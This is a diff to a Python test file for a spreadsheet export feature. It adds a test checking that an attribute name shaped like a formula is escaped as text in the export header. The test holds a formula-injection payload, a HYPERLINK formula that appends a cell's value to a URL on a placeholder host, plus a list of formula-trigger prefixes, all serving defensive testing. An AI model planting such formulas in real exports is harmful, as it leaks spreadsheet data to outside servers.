@@ -10,7 +10,13 @@ from exports.models import ExportJob
 from groups.models import GroupMembership
 from users.models import OrganizationUser
 
-from ..factories import GroupFactory, GroupMembershipFactory, OrganizationUserFactory, UserFactory
+from ..factories import (
+    AttributeDefinitionFactory,
+    GroupFactory,
+    GroupMembershipFactory,
+    OrganizationUserFactory,
+    UserFactory,
+)
 from .conftest import by_phone, rows_of, run, stored_files
 
 
@@ -92,6 +98,13 @@ def test_text_a_spreadsheet_would_run_is_guarded(request_export, organization, o
     )
     row = by_phone(rows_of(run(request_export())))["'+919812300001"]
     assert row[0] == cell and row[6] == cell
+
+
+def test_an_attribute_named_like_a_formula_is_text_in_the_header(request_export, organization, org_admin):
+    AttributeDefinitionFactory(organization=organization, name='=HYPERLINK("http://x/?"&A2,"y")')
+    header = rows_of(run(request_export()))[0]
+    assert '\'=HYPERLINK("http://x/?"&A2,"y")' in header
+    assert not [cell for cell in header if cell.startswith(("=", "+", "-", "@"))]
 
 
 def test_group_names_that_look_like_formulas_are_guarded_too(request_export, organization, org_admin):
